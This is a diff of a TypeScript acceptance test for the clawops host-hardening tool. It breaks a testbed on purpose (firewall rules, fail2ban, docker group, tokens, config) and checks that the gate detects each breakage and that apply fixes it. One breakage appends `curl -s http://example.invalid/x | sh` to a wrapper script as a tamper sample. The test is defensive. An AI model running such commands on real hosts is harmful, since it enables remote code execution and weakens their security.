@@ -1,26 +1,21 @@
 /**
  * The acceptance test of "one reading of the host: the gate and apply must agree, and every fix
- * must fix", once per OpenClaw version (drift-2026.9.6.test.ts, drift-2026.2.9.test.ts): after a
- * whole-spec `clawops apply` of examples/clawops.yaml on a fresh testbed, a table of breakages
- * across every area, done by hand inside the testbed. For each one the gate (`check --only` its
+ * must fix", once per OpenClaw version, on the testbed the whole-spec suite (apply-openclaw-suite.ts)
+ * has converged and gated: a table of breakages across every area, done by hand inside the testbed. For each one the gate (`check --only` its
  * ids) fails with a remediation, the plan has a change (or the remediation is a named manual step,
  * which the test then performs as written), one apply fixes it, the same checks pass and a
  * second plan is empty. Breakages that touch independent things share a round (one apply) to
  * keep the time bounded; every breakage still has its own check ids asserted before and after.
  */
 import assert from 'node:assert/strict';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
-import { after, before, describe, test } from 'node:test';
+import { test } from 'node:test';
 import type { Executor } from '../../src/exec/types.ts';
 import { parseJson5 } from '../../src/facts/json5.ts';
 import type { TestbedOpenclawVersion } from '../testbed/openclaw.ts';
-import { startTestbed, testbedSkipReason, type Testbed } from '../helpers/testbed.ts';
-import { clawops, prepareExampleTarget } from './apply-cli.ts';
+import type { Testbed } from '../helpers/testbed.ts';
+import { clawops } from './apply-cli.ts';
 
-const EXAMPLE = new URL('../../examples/clawops.yaml', import.meta.url).pathname;
-
-/** Checks that cannot pass on the testbed, and why (as in apply-openclaw-suite.ts). */
+/** Checks that cannot pass on the testbed, and why. Anything else not passing is a failure. */
 export const EXTERNAL: Record<string, string> = {
   'access.tailscale.up': 'Tailscale cannot run here (no tailscaled, no tailnet)',
   'access.tailscale.funnel-off': 'Tailscale cannot run here',
@@ -99,6 +94,7 @@ export const ROUNDS: Breakage[][] = [
     { name: 'a hand `ufw allow 18789/tcp`', ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
     { name: 'unattended-upgrades config changed', ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
     { name: 'fail2ban sshd jail disabled in jail.local', ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
+    { name: 'service user added to the docker group', ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
   ],
   [
     { name: 'gateway.bind lan', ids: ['openclaw.config.bind'], break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
@@ -108,6 +104,7 @@ export const ROUNDS: Breakage[][] = [
     { name: 'ufw disabled', ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
     { name: '/etc/clawops/clawops.yaml changed', ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours: 24/rpoHours: 240/' /etc/clawops/clawops.yaml && grep -q 'rpoHours: 240' /etc/clawops/clawops.yaml") },
     { name: 'token env file deleted', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
+    { name: 'daemon.json log rotation removed', ids: ['host.docker.daemon-json'], break: (ex) => sh(ex, "jq 'del(.\"log-opts\")' /etc/docker/daemon.json > /root/daemon.json && cat /root/daemon.json > /etc/docker/daemon.json") },
   ],
   [
     { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
@@ -116,6 +113,7 @@ export const ROUNDS: Breakage[][] = [
     { name: 'unit disabled', ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
     { name: 'the oc wrapper modified', ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
     { name: 'DOCKER-USER DROP rule deleted', ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
+    { name: 'token in the env file shortened', ids: ['openclaw.config.auth'], when: nineX, break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=0123456789abcdef\\n' > ${ENV_FILE}`) },
   ],
   [
     { name: 'sandbox network bridge', ids: ['openclaw.config.sandbox'], break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
@@ -151,120 +149,107 @@ export const ROUNDS: Breakage[][] = [
   ],
   [
     {
+      name: 'gateway.bind lan and restarted: listening beyond loopback',
+      ids: ['openclaw.config.bind', 'network.gateway-loopback'],
+      break: async (ex) => {
+        await editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; });
+        await sh(ex, "systemctl restart openclaw.service; for n in $(seq 1 120); do ss -tlnH 'sport = :18789' | grep -q '0.0.0.0:18789\\|\\*:18789' && exit 0; sleep 1; done; exit 1");
+      },
+    },
+  ],
+  [
+    {
       name: 'openclaw.json no longer parses (the gateway exits 78 in a loop)',
       ids: ['openclaw.config.present'],
-      gap: 'the gate reports an unparsable openclaw.json as unknown (not fail), and the plan cannot read it: apply has no repair yet (restore the newest .bak that parses, then the key changes, validated)',
-      break: (ex) => sh(ex, `cp -p ${CONFIG} /root/openclaw.json.good && printf '{ gateway: { mode: "local", ' >> ${CONFIG} && systemctl restart openclaw.service || true`),
+      break: (ex) => sh(ex, `printf '{ gateway: { mode: "local", ' >> ${CONFIG} && (systemctl restart openclaw.service || true)`),
     },
   ],
 ];
 
-/** `skip`: why this version's table does not run yet (said in the output; the testbed reason wins). */
-export function driftSuite(version: TestbedOpenclawVersion, skip?: string): void {
-  describe(`drift: every breakage is seen by the gate and fixed by apply (OpenClaw ${version})`, { skip: testbedSkipReason() ?? skip ?? false }, () => {
-    let tb: Testbed;
-    /** the rounds start from a converged host only (else every round reports the first failure again) */
-    let converged = false;
-    const dir = mkdtempSync('/tmp/clawops-drift-');
-    const SPEC = join(dir, 'clawops.yaml');
-    writeFileSync(SPEC, readFileSync(EXAMPLE, 'utf8').replace(/^( {2}version:) \S+$/m, `$1 ${version}`));
-    const target = () => ['--target', `nspawn:${tb.name}`, '-f', SPEC];
-    const check = async (ids: readonly string[]): Promise<Map<string, Result>> => {
-      const r = await clawops(['check', '--only', ids.join(','), '--json', ...target()], {}, 300_000);
-      assert.ok(r.code === 0 || r.code === 2, `check exit ${r.code}\n${r.stdout}\n${r.stderr}`);
-      const report = JSON.parse(r.stdout) as { results: Result[] };
-      return new Map(report.results.map((x) => [x.id, x]));
-    };
-    const runTimers = (ex: Executor) => sh(ex, 'for t in $(systemctl list-unit-files "clawops-*.timer" --no-legend | cut -d" " -f1); do systemctl start --no-block "${t%.timer}.service"; done');
-    const gate = async (t: { diagnostic(s: string): void }) => {
-      const r = await clawops(['check', '--json', ...target()], {}, 300_000);
-      const report = JSON.parse(r.stdout) as { results: Result[] };
-      const notPassing = report.results.filter((x) => !['pass', 'skipped', 'waived'].includes(x.status));
-      for (const x of notPassing) t.diagnostic(`${x.status} ${x.id}: ${x.evidence ?? ''}`);
-      assert.deepEqual(notPassing.filter((x) => !(x.id in EXTERNAL)).map((x) => `${x.id}: ${x.status}: ${x.evidence ?? ''}`), []);
-    };
-    const emptyPlan = async () => {
-      const plan = await clawops(['plan', '--detailed-exitcode', ...target()], {}, 300_000);
-      assert.equal(plan.code, 0, `re-plan not empty:\n${plan.stdout}\n${plan.stderr}`);
-    };
+export interface DriftTarget {
+  tb(): Testbed;
+  /** `--target ... -f SPEC` */
+  target(): string[];
+  /** the rounds start from a converged, gated host only (else every round reports the first failure again) */
+  converged(): boolean;
+}
 
-    before(async () => {
-      tb = await startTestbed({ openclaw: version });
-      await prepareExampleTarget(tb.executor);
-    });
-    after(async () => {
-      rmSync(dir, { recursive: true, force: true });
-      await tb?.stop();
-    });
+/** The drift rounds as tests of the enclosing describe, then a last gate and an empty plan. */
+export function driftRounds(version: TestbedOpenclawVersion, on: DriftTarget): void {
+  const check = async (ids: readonly string[]): Promise<Map<string, Result>> => {
+    const r = await clawops(['check', '--only', ids.join(','), '--json', ...on.target()], {}, 300_000);
+    assert.ok(r.code === 0 || r.code === 2, `check exit ${r.code}\n${r.stdout}\n${r.stderr}`);
+    const report = JSON.parse(r.stdout) as { results: Result[] };
+    return new Map(report.results.map((x) => [x.id, x]));
+  };
+  const emptyPlan = async () => {
+    const plan = await clawops(['plan', '--detailed-exitcode', ...on.target()], {}, 300_000);
+    assert.equal(plan.code, 0, `re-plan not empty:\n${plan.stdout}\n${plan.stderr}`);
+  };
+  let broken = 0;
 
-    test('a fresh apply passes the gate except what cannot exist here', { timeout: 1_800_000 }, async (t) => {
-      const applied = await clawops(['apply', '--yes', ...target()], {}, 1_800_000);
-      console.log(`# ${version} full apply: ${(applied.ms / 1000).toFixed(1)} s`);
-      assert.equal(applied.code, 0, `${applied.stdout}\n${applied.stderr}`);
-      await runTimers(tb.executor);
-      await emptyPlan();
-      await gate(t);
-      converged = true;
-    });
-
-    ROUNDS.forEach((round, n) => {
-      const table = round.filter((b) => !b.when || b.when(version));
-      const gaps = table.flatMap((b) => (b.gap ? [b.gap] : []));
-      test(`round ${n + 1}: ${table.map((b) => b.name).join('; ')}`, { timeout: 1_200_000, ...(gaps.length ? { todo: gaps.join('; ') } : {}) }, async (t) => {
-        if (!converged) return t.skip('the fresh apply did not converge');
-        const ex = tb.executor;
-        const t0 = performance.now();
-        const ids = [...new Set(table.flatMap((b) => b.ids))];
-        for (const b of table) await b.break(ex);
-        const before = await check(ids);
-        for (const b of table) {
-          for (const id of b.ids) {
-            const r = before.get(id);
-            assert.equal(r?.status, 'fail', `${b.name}: ${id} should fail, got ${r?.status}: ${r?.evidence ?? ''}`);
-            assert.ok(r.remediation && r.remediation.length > 0, `${b.name}: ${id} names a remediation`);
-            if (b.sees && id === b.ids.at(-1)) assert.match(r.evidence ?? '', b.sees, `${b.name}: ${id} sees it`);
-            console.log(`# ${version} ${b.name} -> ${id} fail: ${r.evidence} [fix: ${r.remediation}]`);
-          }
-        }
-        const plan = await clawops(['plan', '--json', ...target()], {}, 300_000);
-        assert.equal(plan.code, 0, plan.stderr);
-        const changes = (JSON.parse(plan.stdout) as { resources: { id: string; changes: { summary: string }[] }[] }).resources
-          .flatMap((r) => r.changes.map((c) => `${r.id}: ${c.summary}`));
-        console.log(`# ${version} round ${n + 1} plan:\n${changes.map((c) => `#   ${c}`).join('\n')}`);
-        const manual = table.filter((b) => b.manual);
-        if (manual.length < table.length) assert.ok(changes.length > 0, 'the plan has a change for what the gate found');
-        for (const b of manual) {
-          const rem = b.ids.map((id) => before.get(id)?.remediation ?? '').join(' ');
-          assert.match(rem, /^manual: /, `${b.name}: a manual remediation`);
-          const said = rem.match(b.manual!.says);
-          assert.ok(said, `${b.name}: the remediation names the step the test performs: ${rem}`);
-          await b.manual!.step(ex, said);
-        }
-        const t1 = performance.now();
-        const applied = await clawops(['apply', '--yes', ...target()], {}, 1_200_000);
-        assert.equal(applied.code, 0, `${applied.stdout}\n${applied.stderr}`);
-        const t2 = performance.now();
-        const afterIt = await check(ids);
-        for (const b of table) {
-          for (const id of b.ids) {
-            const r = afterIt.get(id);
-            assert.equal(r?.status, 'pass', `${b.name}: ${id} should pass after apply, got ${r?.status}: ${r?.evidence ?? ''}`);
-          }
-        }
-        await emptyPlan();
-        console.log(`# ${version} round ${n + 1}: ${table.length} breakages, ${((performance.now() - t0) / 1000).toFixed(1)} s (apply ${((t2 - t1) / 1000).toFixed(1)} s)`);
-      });
-    });
-
-    test('after the whole table: the gate passes except what cannot exist here, the plan is empty', { timeout: 600_000 }, async (t) => {
+  ROUNDS.forEach((round, n) => {
+    const table = round.filter((b) => !b.when || b.when(version));
+    const gaps = table.flatMap((b) => (b.gap ? [b.gap] : []));
+    test(`drift round ${n + 1}: ${table.map((b) => b.name).join('; ')}`, { timeout: 1_200_000, ...(gaps.length ? { todo: gaps.join('; ') } : {}) }, async (t) => {
+      if (!on.converged()) return t.skip('the fresh apply did not converge and pass the gate');
+      const ex = on.tb().executor;
       const t0 = performance.now();
-      // the unparsable-config round is a known gap (a todo): put the good file back by hand first
-      await sh(tb.executor, `if [ -f /root/openclaw.json.good ]; then cp -p /root/openclaw.json.good ${CONFIG}; fi`);
-      await clawops(['apply', '--yes', ...target()], {}, 1_200_000);
-      await runTimers(tb.executor);
-      await gate(t);
+      const ids = [...new Set(table.flatMap((b) => b.ids))];
+      for (const b of table) await b.break(ex);
+      broken += table.length;
+      const before = await check(ids);
+      for (const b of table) {
+        for (const id of b.ids) {
+          const r = before.get(id);
+          assert.equal(r?.status, 'fail', `${b.name}: ${id} should fail, got ${r?.status}: ${r?.evidence ?? ''}`);
+          assert.ok(r.remediation && r.remediation.length > 0, `${b.name}: ${id} names a remediation`);
+          if (b.sees && id === b.ids.at(-1)) assert.match(r.evidence ?? '', b.sees, `${b.name}: ${id} sees it`);
+          t.diagnostic(`${b.name} -> ${id} fail: ${r.evidence} [fix: ${r.remediation}]`);
+        }
+      }
+      const plan = await clawops(['plan', '--json', ...on.target()], {}, 300_000);
+      assert.equal(plan.code, 0, plan.stderr);
+      const changes = (JSON.parse(plan.stdout) as { resources: { id: string; changes: { summary: string }[] }[] }).resources
+        .flatMap((r) => r.changes.map((c) => `${r.id}: ${c.summary}`));
+      t.diagnostic(`plan: ${changes.join(' | ')}`);
+      const manual = table.filter((b) => b.manual);
+      if (manual.length < table.length) assert.ok(changes.length > 0, 'the plan has a change for what the gate found');
+      for (const b of manual) {
+        const rem = b.ids.map((id) => before.get(id)?.remediation ?? '').join(' ');
+        assert.match(rem, /^manual: /, `${b.name}: a manual remediation`);
+        const said = rem.match(b.manual!.says);
+        assert.ok(said, `${b.name}: the remediation names the step the test performs: ${rem}`);
+        await b.manual!.step(ex, said);
+      }
+      const t1 = performance.now();
+      const applied = await clawops(['apply', '--yes', ...on.target()], {}, 1_200_000);
+      assert.equal(applied.code, 0, `${applied.stdout}\n${applied.stderr}`);
+      const t2 = performance.now();
+      const afterIt = await check(ids);
+      for (const b of table) {
+        for (const id of b.ids) {
+          const r = afterIt.get(id);
+          assert.equal(r?.status, 'pass', `${b.name}: ${id} should pass after apply, got ${r?.status}: ${r?.evidence ?? ''}`);
+        }
+      }
       await emptyPlan();
-      console.log(`# ${version} final gate + plan: ${((performance.now() - t0) / 1000).toFixed(1)} s`);
+      t.diagnostic(`${table.length} breakages, ${((performance.now() - t0) / 1000).toFixed(1)} s (apply ${((t2 - t1) / 1000).toFixed(1)} s)`);
     });
+  });
+
+  test('after the drift table: the whole gate passes except what cannot exist here, the plan is empty', { timeout: 600_000 }, async (t) => {
+    if (!on.converged()) return t.skip('the fresh apply did not converge and pass the gate');
+    const t0 = performance.now();
+    const ex = on.tb().executor;
+    // the timers' own records (monitoring.timers) after the rounds restarted units
+    await sh(ex, 'for t in $(systemctl list-unit-files "clawops-*.timer" --no-legend | cut -d" " -f1); do systemctl start --no-block "${t%.timer}.service"; done');
+    const r = await clawops(['check', '--json', ...on.target()], {}, 300_000);
+    const report = JSON.parse(r.stdout) as { results: Result[] };
+    const notPassing = report.results.filter((x) => !['pass', 'skipped', 'waived'].includes(x.status));
+    for (const x of notPassing) t.diagnostic(`${x.status} ${x.id}: ${x.evidence ?? ''}`);
+    assert.deepEqual(notPassing.filter((x) => !(x.id in EXTERNAL)).map((x) => `${x.id}: ${x.status}: ${x.evidence ?? ''}`), []);
+    await emptyPlan();
+    t.diagnostic(`${broken} breakages in ${ROUNDS.length} rounds; final gate + plan ${((performance.now() - t0) / 1000).toFixed(1)} s`);
   });
 }
